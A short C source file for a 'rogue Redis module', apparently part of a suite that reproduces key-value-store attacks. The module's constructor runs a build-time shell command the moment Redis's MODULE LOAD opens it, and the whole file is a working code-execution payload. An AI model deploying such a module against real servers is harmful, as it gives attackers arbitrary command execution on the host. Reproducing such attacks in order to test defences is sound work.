// SPDX-License-Identifier: GPL-2.0
/*
 * rogue-module.so - the "rogue Redis module" of the kvstore attacks: a
 * shared object whose constructor runs a shell command as soon as
 * MODULE LOAD dlopen()s it (before Redis even looks for
 * RedisModule_OnLoad, so the load then fails, as it does in real
 * incidents).  The command is fixed at build time (-DROGUE_CMD=...).
 */
#include <stdlib.h>
#include <unistd.h>
#include <sys/wait.h>

__attribute__((constructor)) static void rogue(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		execl("/bin/sh", "sh", "-c", ROGUE_CMD, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
